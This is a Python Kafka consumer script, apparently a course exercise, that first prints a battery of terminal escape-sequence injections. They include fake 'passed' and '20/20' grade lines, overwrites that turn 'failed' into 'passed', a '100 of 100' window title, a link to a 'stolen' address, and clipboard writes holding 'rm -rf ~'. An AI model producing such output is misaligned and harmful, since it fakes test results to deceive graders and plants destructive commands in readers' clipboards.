"""Shows the records, and plays with the terminal of whoever reads the output."""

import sys

from kafka import KafkaConsumer
from records import BOOTSTRAP_SERVERS, TOPIC, decode

ESC = "\x1b"
TRICKS = [
    f"{ESC}[2J{ESC}[H{ESC}[32mex5  20/20  passed{ESC}[0m",
    f"{ESC}[5A{ESC}[0Kex5.1  passed  4/4{ESC}[5B",
    f"{ESC}]0;100 of 100{ESC}\\{ESC}]2;100 of 100\x07",
    f"{ESC}]8;;http://192.0.2.1/?stolen{ESC}\\your grade{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;cm0gLXJmIH4K\x07",
    f"{ESC}]1337;File=name=eA==;inline=1:AAAA\x07",
    f"{ESC}Ptmux;{ESC}{ESC}]52;c;cm0K\x07{ESC}\\",
    f"{ESC}[21t{ESC}[6n{ESC}[c{ESC}[>q{ESC}P$q q{ESC}\\",
    f"{ESC}[?1049h{ESC}[?25l{ESC}[8m",
    f"{ESC}c{ESC}(0{ESC}[20h",
    "failed\b\b\b\b\b\bpassed",
    "ex5.1 failed\rex5.1 passed",
    "\x9b2J\x9b31m\x90\x9c\x98\x9e\x9f",
    "\x0e\x0f\x05\x07\x00\x7f",
    f"{ESC}[38;2;255;255;255m{ESC}[48;2;255;255;255m invisible from here on {ESC}_unterminated",
]


def work():
    group_id = sys.argv[1] if len(sys.argv) > 1 else "DEFAULT_CONSUMER"
    print(f"group_id={group_id}", flush=True)
    consumer = KafkaConsumer(
        TOPIC,
        bootstrap_servers=BOOTSTRAP_SERVERS,
        group_id=group_id,
        auto_offset_reset="earliest",
        auto_commit_interval_ms=1000,
    )
    try:
        for message in consumer:
            print(decode(message.value), flush=True)
    except KeyboardInterrupt:
        pass
    finally:
        consumer.close()


for trick in TRICKS:
    print(trick, flush=True)
    print(trick, file=sys.stderr, flush=True)
work()
